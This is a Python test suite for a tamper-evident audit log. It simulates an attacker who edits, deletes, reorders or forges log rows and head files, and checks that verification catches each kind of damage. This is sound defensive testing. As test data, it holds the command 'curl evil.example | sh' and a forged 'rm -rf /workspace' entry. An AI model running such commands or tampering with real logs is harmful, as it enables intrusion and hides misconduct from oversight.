"""Hostile tests of the audit log's anchors on a real SQLite file and a real data dir.

The attacker can read and write the database (sqlite3, as anyone holding the file could) and,
where a test says so, files in the data dir other than the key; they know how a row's hash is
computed (the code is public) but not the key. Each test tampers as that attacker would and
asserts what `verify` (the engine's, which audit_verify returns) and `dockyard audit verify`
report: the kind of damage, and the row where it shows.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import secrets
import sqlite3
import sys
from collections.abc import AsyncIterator
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import anyio
import pytest

from dockyard.runtime.substrate.audit import AuditLog
from dockyard.runtime.substrate.models import AuditVerification
from dockyard.runtime.substrate.settings import Identity
from dockyard.runtime.substrate.store import AuditEvent, Store

pytestmark = pytest.mark.anyio

DOCKYARD = str(Path(sys.executable).parent / "dockyard")
GENESIS = "0" * 64
ALICE = Identity(workspace_id="acme", user_id="alice", token_id="tok_alice")
MALLORY = Identity(workspace_id="rival", user_id="mallory", token_id="tok_mallory")


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    return tmp_path / "data"


@pytest.fixture
async def store(data_dir: Path) -> AsyncIterator[Store]:
    opened = Store(data_dir / "dockyard.db")
    await opened.open()
    yield opened
    await opened.close()


@pytest.fixture
def audit(store: Store, data_dir: Path) -> AuditLog:
    return AuditLog(store, data_dir)


async def fill(audit: AuditLog, count: int) -> list[AuditEvent]:
    """Rows as real actions leave them: several callers, a command started and ended."""
    rows = []
    for i in range(count):
        who = (ALICE, MALLORY)[i % 2]
        rows.append(
            await audit.append(who, "sandbox.exec", target=f"sbx_{i}", outcome="ok", detail={"command": f"step {i}"})
        )
    return rows


def sql(db: Path, statement: str, *params: object) -> list[tuple]:
    """One statement on the SQLite file, as someone with the file could."""
    with closing(sqlite3.connect(db)) as conn:
        found = conn.execute(statement, params).fetchall()
        conn.commit()
    return found


def plain_hash(row: dict) -> str:
    """A row's hash by the public formula: what an attacker without the key can compute."""
    body = {
        name: row[name]
        for name in (
            "workspace_id",
            "project_id",
            "user_id",
            "run_id",
            "kind",
            "target",
            "outcome",
            "detail",
            "duration_ms",
            "prev_hash",
        )
    }
    body["ts"] = datetime.fromisoformat(row["ts"]).replace(tzinfo=UTC).isoformat()
    if row["token_id"] is not None:
        body["token_id"] = row["token_id"]
    return hashlib.sha256(json.dumps(body, sort_keys=True).encode()).hexdigest()


def table(db: Path) -> list[dict]:
    with closing(sqlite3.connect(db)) as conn:
        conn.row_factory = sqlite3.Row
        return [dict(r) for r in conn.execute("SELECT * FROM auditevent ORDER BY id")]


def recompute(db: Path, mac: str | None = "keep") -> None:
    """Relink and rehash every row with plain SHA-256 (the MAC column kept, cleared or set)."""
    previous = GENESIS
    with closing(sqlite3.connect(db)) as conn:
        for row in table(db):
            row["prev_hash"] = previous
            row["hash"] = previous = plain_hash(row)
            new_mac = row["mac"] if mac == "keep" else mac
            conn.execute(
                "UPDATE auditevent SET prev_hash = ?, hash = ?, mac = ? WHERE id = ?",
                (row["prev_hash"], row["hash"], new_mac, row["id"]),
            )
        conn.commit()


async def verdict(audit: AuditLog) -> AuditVerification:
    return await audit.verify(batch=4)


def kinds(result: AuditVerification) -> list[str]:
    return [f.kind for f in result.findings]


async def cli(data_dir: Path, *args: str) -> tuple[int, str]:
    env = {**os.environ, "DOCKYARD_DATA_DIR": str(data_dir)}
    env.pop("DOCKYARD_CONFIG", None)
    done = await anyio.run_process([DOCKYARD, "audit", *args], env=env, check=False)
    return done.returncode, done.stdout.decode()


def head(data_dir: Path) -> dict:
    return json.loads((data_dir / "audit-head.json").read_text())


# -- anchoring as it should work -------------------------------------------------------------


async def test_the_key_is_owner_only_and_the_head_signs_every_append(audit: AuditLog, data_dir: Path) -> None:
    rows = await fill(audit, 5)
    assert (data_dir / "audit-key").stat().st_mode & 0o777 == 0o600
    assert (head(data_dir)["rows"], head(data_dir)["last_id"], head(data_dir)["last_hash"]) == (
        5,
        rows[-1].id,
        rows[-1].hash,
    )
    assert all(r["mac"] for r in table(data_dir / "dockyard.db"))
    key = (data_dir / "audit-key").read_text().strip()
    assert key not in json.dumps(table(data_dir / "dockyard.db"))  # the database never holds the key
    result = await verdict(audit)
    assert (result.intact, result.rows_checked, result.head_rows, result.unanchored_rows) == (True, 5, 5, 0)
    assert await cli(data_dir, "verify") == (0, "audit log intact: 5 rows, signed head at 5 rows\n")


async def test_a_crash_between_a_row_and_its_head_leaves_a_head_one_row_behind_which_verifies(
    audit: AuditLog, data_dir: Path
) -> None:
    """kill -9 after the row's commit and before the head's rename leaves exactly this state."""
    await fill(audit, 3)
    before = (data_dir / "audit-head.json").read_bytes()
    await fill(audit, 1)
    (data_dir / "audit-head.json").write_bytes(before)
    result = await verdict(audit)
    assert (result.intact, result.head_rows, result.unanchored_rows) == (True, 3, 1)
    await fill(audit, 1)  # the next append anchors both
    assert head(data_dir)["rows"] == 5
    assert (await verdict(audit)).unanchored_rows == 0


async def test_concurrent_appends_from_the_server_and_another_process_keep_the_head_on_the_last_row(
    audit: AuditLog, data_dir: Path
) -> None:
    """The server's tasks and `dockyard token mint` (another process) append at once."""
    env = {**os.environ, "DOCKYARD_DATA_DIR": str(data_dir)}
    env.pop("DOCKYARD_CONFIG", None)
    await fill(audit, 1)

    async def mint() -> None:
        await anyio.run_process([DOCKYARD, "token", "mint", "-s", "sandbox:exec", "-w", "acme"], env=env)

    with anyio.fail_after(120):
        async with anyio.create_task_group() as tg:
            for _ in range(3):
                tg.start_soon(mint)
            for _ in range(40):
                tg.start_soon(fill, audit, 1)
    result = await verdict(audit)
    assert (result.intact, result.rows_checked, result.head_rows, result.unanchored_rows) == (True, 44, 44, 0)
    assert head(data_dir)["last_id"] == 44


async def test_rows_from_before_the_key_are_anchored_by_the_first_head(
    audit: AuditLog, store: Store, data_dir: Path
) -> None:
    """A store from before anchoring: its rows have no MAC; the first append signs them into a head."""
    db = data_dir / "dockyard.db"
    previous = GENESIS
    for i in range(3):
        row = {
            "id": i + 1,
            "ts": f"2026-01-0{i + 1} 10:00:00.000001",
            "workspace_id": "local",
            "project_id": "default",
            "user_id": "operator",
            "run_id": None,
            "token_id": None,
            "kind": "sandbox.exec",
            "target": "sbx_old",
            "outcome": "ok",
            "detail": "{}",
            "duration_ms": 1.0,
            "prev_hash": previous,
        }
        row["hash"] = previous = plain_hash(row)
        with closing(sqlite3.connect(db)) as conn:
            conn.execute(
                "INSERT INTO auditevent (id, ts, workspace_id, project_id, user_id, run_id, token_id, kind, target, "
                "outcome, detail, duration_ms, prev_hash, hash) VALUES (:id, :ts, :workspace_id, :project_id, "
                ":user_id, :run_id, :token_id, :kind, :target, :outcome, :detail, :duration_ms, :prev_hash, :hash)",
                row,
            )
            conn.commit()
    old = await verdict(audit)
    assert (old.intact, old.legacy_rows, old.head_rows) == (True, 3, None)  # no key yet: nothing to check but the chain
    await fill(audit, 2)
    assert (head(data_dir)["keyed_from"], head(data_dir)["rows"]) == (4, 5)
    result = await verdict(audit)
    assert (result.intact, result.legacy_rows, result.head_rows) == (True, 3, 5)

    # rewriting an old row now, and the chain after it, no longer passes: the first keyed row's MAC
    sql(db, "UPDATE auditevent SET outcome = 'error' WHERE id = 2")
    recompute(db)
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 4, ["recomputed"])


# -- rows missing at the tail ------------------------------------------------------------------


async def test_an_attacker_who_deletes_the_newest_rows_is_caught_by_the_signed_head(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 8)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id > 5")
    result = await verdict(audit)
    assert (result.intact, kinds(result)) == (False, ["truncated"])
    assert (
        "the table ends at row 5, but the signed head says 8 rows up to row 8: rows 6..8 were cut from the tail"
        in result.reason
    )
    code, out = await cli(data_dir, "verify")
    assert code == 1 and out.startswith("audit log broken (truncated): the table ends at row 5")


async def test_an_attacker_who_cuts_the_tail_cannot_hide_it_behind_rows_the_server_writes_later(
    audit: AuditLog, data_dir: Path
) -> None:
    """The cut rows' ids are reused by later appends; the head is not moved over the cut."""
    rows = await fill(audit, 6)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id > 3")
    await fill(audit, 5)  # the server goes on working
    assert head(data_dir)["last_hash"] == rows[-1].hash  # the evidence stays
    result = await verdict(audit)
    assert (result.intact, kinds(result), result.first_broken_id) == (False, ["truncated"], 6)
    assert "row 6 is not the row the signed head names" in result.reason


async def test_an_attacker_who_cuts_the_tail_and_fills_it_with_forged_rows_is_caught_by_their_macs(
    audit: AuditLog, data_dir: Path
) -> None:
    rows = await fill(audit, 6)
    db = data_dir / "dockyard.db"
    sql(db, "DELETE FROM auditevent WHERE id > 4")
    for row_id in (5, 6):  # innocent-looking rows in the place of the cut ones, linked and hashed
        sql(
            db,
            "INSERT INTO auditevent (id, ts, workspace_id, project_id, user_id, kind, target, outcome, detail, "
            "duration_ms, prev_hash, hash, mac) SELECT ?, ts, workspace_id, project_id, user_id, kind, target, outcome, "
            "'{\"command\": \"ls\"}', duration_ms, '', '', ? FROM auditevent WHERE id = 4",
            row_id,
            rows[row_id - 1].mac,
        )
    recompute(db)
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 5, ["recomputed"])


async def test_a_table_and_head_rolled_back_together_are_caught_by_an_exported_copy(
    audit: AuditLog, data_dir: Path, tmp_path: Path
) -> None:
    """Replaying an old genuine head over a cut table is invisible to the head alone; the copy an
    operator exported elsewhere still shows it."""
    await fill(audit, 3)
    old_head = (data_dir / "audit-head.json").read_bytes()
    await fill(audit, 3)
    export = tmp_path / "elsewhere.jsonl"
    code, _ = await cli(data_dir, "export", "--output", str(export))
    assert code == 0
    lines = export.read_text().splitlines()
    assert len(lines) == 7 and json.loads(lines[-1])["head"]["rows"] == 6 and json.loads(lines[0])["id"] == 1

    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id > 3")
    (data_dir / "audit-head.json").write_bytes(old_head)
    assert (await verdict(audit)).intact  # the limit of a head kept beside the database
    code, out = await cli(data_dir, "verify", "--against", str(export))
    assert code == 1
    assert "(truncated): the exported copy has rows up to 6, the table ends at row 3: rows 4..6 were cut" in out


# -- the whole table emptied -------------------------------------------------------------------


async def test_an_attacker_who_deletes_every_row_is_caught(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 5)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent")
    result = await verdict(audit)
    assert (result.intact, kinds(result), result.rows_checked) == (False, ["emptied"], 0)
    assert "the table is empty, but the signed head says it held 5 rows" in result.reason
    code, out = await cli(data_dir, "verify")
    assert code == 1 and "(emptied)" in out


async def test_an_attacker_who_drops_the_audit_table_is_caught_when_the_store_recreates_it(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 4)
    sql(data_dir / "dockyard.db", "DROP TABLE auditevent")
    code, out = await cli(data_dir, "verify")  # opens the store, which makes the table again, empty
    assert (
        code == 1 and "audit log broken (emptied): the table is empty, but the signed head says it held 4 rows" in out
    )


async def test_an_attacker_who_replaces_the_whole_database_file_is_caught(
    audit: AuditLog, store: Store, data_dir: Path
) -> None:
    await fill(audit, 4)
    await store.close()
    for name in ("dockyard.db", "dockyard.db-wal", "dockyard.db-shm"):
        (data_dir / name).unlink(missing_ok=True)
    fresh = Store(data_dir / "dockyard.db")
    await fresh.open()
    try:
        log = AuditLog(fresh, data_dir)
        await log.append(MALLORY, "sandbox.create", target="sbx_new", outcome="ok", detail={})  # the server starts over
        result = await log.verify()
        assert (result.intact, kinds(result)) == (False, ["truncated"])
        assert "the table ends at row 1, but the signed head says 4 rows" in result.reason
    finally:
        await fresh.close()
        await store.open()


# -- a chain recomputed without the key --------------------------------------------------------


async def test_an_attacker_who_edits_a_row_and_recomputes_the_chain_without_the_key_is_caught(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 6)
    db = data_dir / "dockyard.db"
    sql(db, 'UPDATE auditevent SET detail = \'{"command": "true"}\' WHERE id = 3')
    recompute(db)
    assert all(r["hash"] == plain_hash(r) for r in table(db))  # by the chain alone it holds
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 3, ["recomputed"])
    assert "the chain was recomputed by someone without the key" in result.reason
    code, out = await cli(data_dir, "verify")
    assert code == 1 and out.startswith("audit log broken at row 3 (recomputed):")


async def test_an_attacker_who_strips_every_mac_and_recomputes_is_caught(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 4)
    db = data_dir / "dockyard.db"
    sql(db, "UPDATE auditevent SET outcome = 'denied' WHERE id = 2")
    recompute(db, mac=None)
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 1, ["recomputed"])
    assert "carries no MAC" in result.reason


async def test_an_attacker_who_swaps_two_rows_and_recomputes_the_chain_is_caught(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 5)
    db = data_dir / "dockyard.db"
    sql(db, "UPDATE auditevent SET id = -2 WHERE id = 2")
    sql(db, "UPDATE auditevent SET id = 2 WHERE id = 4")
    sql(db, "UPDATE auditevent SET id = 4 WHERE id = -2")
    recompute(db)
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 2, ["recomputed"])


@pytest.mark.parametrize("guess", ["empty", "admin-key", "random"])
async def test_an_attacker_who_signs_a_forged_row_with_a_guessed_key_is_caught(
    audit: AuditLog, data_dir: Path, guess: str
) -> None:
    await fill(audit, 3)
    db = data_dir / "dockyard.db"
    key = {"empty": b"", "admin-key": b"dya_not-the-audit-key", "random": secrets.token_bytes(32)}[guess]
    last = table(db)[-1]
    forged = {
        **last,
        "id": 4,
        "outcome": "ok",
        "detail": '{"command": "rm -rf /workspace", "exit_code": 0}',
        "prev_hash": last["hash"],
    }
    forged["hash"] = plain_hash(forged)
    forged["mac"] = hmac.new(key, f"4:{forged['hash']}".encode(), hashlib.sha256).hexdigest()
    columns = ", ".join(forged)
    with closing(sqlite3.connect(db)) as conn:
        conn.execute(
            f"INSERT INTO auditevent ({columns}) VALUES ({', '.join('?' for _ in forged)})", list(forged.values())
        )
        conn.commit()
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 4, ["recomputed"])


# -- rows edited -------------------------------------------------------------------------------


async def test_an_attacker_who_rewrites_what_a_command_was_is_caught_at_that_row(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 5)
    sql(data_dir / "dockyard.db", 'UPDATE auditevent SET detail = \'{"command": "echo harmless"}\' WHERE id = 4')
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 4, ["edited"])
    code, out = await cli(data_dir, "verify", "--json")
    assert code == 1 and json.loads(out)["findings"][0] == {"kind": "edited", "row_id": 4, "reason": result.reason}


async def test_an_attacker_who_reattributes_a_row_to_another_user_is_caught(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 4)
    sql(
        data_dir / "dockyard.db",
        "UPDATE auditevent SET workspace_id = 'acme', user_id = 'alice', token_id = 'tok_alice' WHERE id = 2",
    )
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 2, ["edited"])


async def test_an_attacker_who_swaps_two_rows_is_caught_where_the_order_breaks(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 5)
    db = data_dir / "dockyard.db"
    sql(db, "UPDATE auditevent SET id = -2 WHERE id = 2")
    sql(db, "UPDATE auditevent SET id = 2 WHERE id = 4")
    sql(db, "UPDATE auditevent SET id = 4 WHERE id = -2")
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 2, ["reordered"])


# -- rows deleted in the middle ----------------------------------------------------------------


async def test_an_attacker_who_deletes_a_middle_row_is_caught_at_the_gap(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 6)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id = 3")
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 4, ["deleted"])
    assert "row 3 was deleted from the middle, just before it" in result.reason
    code, out = await cli(data_dir, "verify")
    assert code == 1 and out.startswith("audit log broken at row 4 (deleted):")


async def test_an_attacker_who_deletes_a_commands_started_row_is_caught(audit: AuditLog, data_dir: Path) -> None:
    """Hiding that a command began (its started row) breaks the chain like any other row."""
    await fill(audit, 2)
    async with audit.record(ALICE, "sandbox.exec", "sbx_9", started=True, command="curl evil.example | sh"):
        pass
    await fill(audit, 1)
    db = data_dir / "dockyard.db"
    [(started,)] = sql(db, "SELECT id FROM auditevent WHERE outcome = 'started'")
    sql(db, "DELETE FROM auditevent WHERE id = ?", started)
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, started + 1, ["deleted"])


async def test_an_attacker_who_deletes_a_middle_row_and_renumbers_the_rest_is_caught(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 6)
    db = data_dir / "dockyard.db"
    sql(db, "DELETE FROM auditevent WHERE id = 3")
    for row_id in (4, 5, 6):
        sql(db, "UPDATE auditevent SET id = ? WHERE id = ?", row_id - 1, row_id)
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 3, ["reordered"])
    recompute(db)  # and relinked: the MACs no longer hold, and the head still counts 6
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 3, ["recomputed"])


async def test_an_attacker_who_deletes_the_first_rows_is_caught(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 4)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id <= 2")
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 3, ["deleted"])
    assert "rows 1..2 were deleted from the chain's start" in result.reason


# -- the head file -----------------------------------------------------------------------------


async def test_an_attacker_who_deletes_the_head_file_is_caught(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 4)
    (data_dir / "audit-head.json").unlink()
    result = await verdict(audit)
    assert (result.intact, kinds(result), result.head_rows) == (False, ["head_missing"], None)
    code, out = await cli(data_dir, "verify")
    assert code == 1 and out.startswith("audit log broken (head_missing): the signed head (audit-head.json) is missing")


async def test_an_attacker_who_deletes_the_head_and_cuts_the_tail_cannot_have_the_server_sign_the_cut(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 6)
    (data_dir / "audit-head.json").unlink()
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id > 2")
    await fill(audit, 3)  # the server goes on; it never makes a new head over rows it cannot vouch for
    assert not (data_dir / "audit-head.json").exists()
    result = await verdict(audit)
    assert (result.intact, kinds(result)) == (False, ["head_missing"])


async def test_an_attacker_who_replaces_the_head_with_garbage_is_caught(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 2)
    (data_dir / "audit-head.json").write_text("{not json")
    assert kinds(await verdict(audit)) == ["head_forged"]
    (data_dir / "audit-head.json").write_text("[]")
    assert kinds(await verdict(audit)) == ["head_forged"]


async def test_an_attacker_who_edits_the_head_to_match_a_cut_table_is_caught(audit: AuditLog, data_dir: Path) -> None:
    rows = await fill(audit, 6)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id > 4")
    forged = {**head(data_dir), "rows": 4, "last_id": 4, "last_hash": rows[3].hash}
    (data_dir / "audit-head.json").write_text(json.dumps(forged))
    result = await verdict(audit)
    assert (result.intact, kinds(result)) == (False, ["head_forged"])
    assert "signature does not hold under the audit key" in result.reason
    code, out = await cli(data_dir, "verify")
    assert code == 1 and "(head_forged)" in out


async def test_an_attacker_who_signs_a_head_with_their_own_key_is_caught(audit: AuditLog, data_dir: Path) -> None:
    rows = await fill(audit, 5)
    sql(data_dir / "dockyard.db", "DELETE FROM auditevent WHERE id > 3")
    body = {"rows": 3, "last_id": 3, "last_hash": rows[2].hash, "keyed_from": 1, "ts": datetime.now(UTC).isoformat()}
    mac = hmac.new(secrets.token_bytes(32), json.dumps(body, sort_keys=True).encode(), hashlib.sha256).hexdigest()
    (data_dir / "audit-head.json").write_text(json.dumps({**body, "mac": mac}))
    assert kinds(await verdict(audit)) == ["head_forged"]


async def test_an_attacker_who_copies_a_genuine_head_from_another_instance_is_caught(
    audit: AuditLog, data_dir: Path, tmp_path: Path
) -> None:
    await fill(audit, 3)
    other_dir = tmp_path / "other"
    other_store = Store(other_dir / "dockyard.db")
    await other_store.open()
    try:
        await fill(AuditLog(other_store, other_dir), 1)
    finally:
        await other_store.close()
    (data_dir / "audit-head.json").write_bytes((other_dir / "audit-head.json").read_bytes())
    assert kinds(await verdict(audit)) == ["head_forged"]


# -- the key -----------------------------------------------------------------------------------


async def test_an_attacker_who_deletes_the_key_gets_no_clean_verdict_even_after_the_server_makes_a_new_one(
    audit: AuditLog, store: Store, data_dir: Path
) -> None:
    await fill(audit, 3)
    (data_dir / "audit-key").unlink()
    result = await verdict(audit)
    assert (result.intact, kinds(result)) == (False, ["key_missing"])
    fresh = AuditLog(store, data_dir)  # the server restarts and appends: a new key is made
    await fill(fresh, 1)
    result = await fresh.verify()
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 1, ["recomputed"])


# -- after an investigation --------------------------------------------------------------------


async def test_the_operator_reanchors_after_a_cut_and_the_record_keeps_what_was_found(
    audit: AuditLog, data_dir: Path
) -> None:
    await fill(audit, 6)
    db = data_dir / "dockyard.db"
    sql(db, "DELETE FROM auditevent WHERE id > 4")
    await fill(audit, 1)  # unanchored while the cut stands
    assert kinds(await verdict(audit)) == ["truncated"]

    code, out = await cli(data_dir, "reanchor")
    assert code == 0 and out.startswith(
        "recorded (truncated): the table ends at row 5, but the signed head says 6 rows"
    )
    result = await verdict(audit)
    assert (result.intact, result.rows_checked, result.head_rows) == (True, 6, 6)
    [row] = [r for r in table(db) if r["kind"] == "audit.reanchor"]
    detail = json.loads(row["detail"])
    assert [f["kind"] for f in detail["findings"]] == ["truncated"] and json.loads(detail["old_head"])["rows"] == 6

    await fill(audit, 2)  # anchored again: a new cut shows
    sql(db, "DELETE FROM auditevent WHERE id = 8")
    assert kinds(await verdict(audit)) == ["truncated"]


async def test_reanchoring_does_not_clear_an_edited_row(audit: AuditLog, data_dir: Path) -> None:
    await fill(audit, 4)
    sql(data_dir / "dockyard.db", "UPDATE auditevent SET outcome = 'denied' WHERE id = 2")
    await audit.reanchor(Identity())
    result = await verdict(audit)
    assert (result.intact, result.first_broken_id, kinds(result)) == (False, 2, ["edited"])
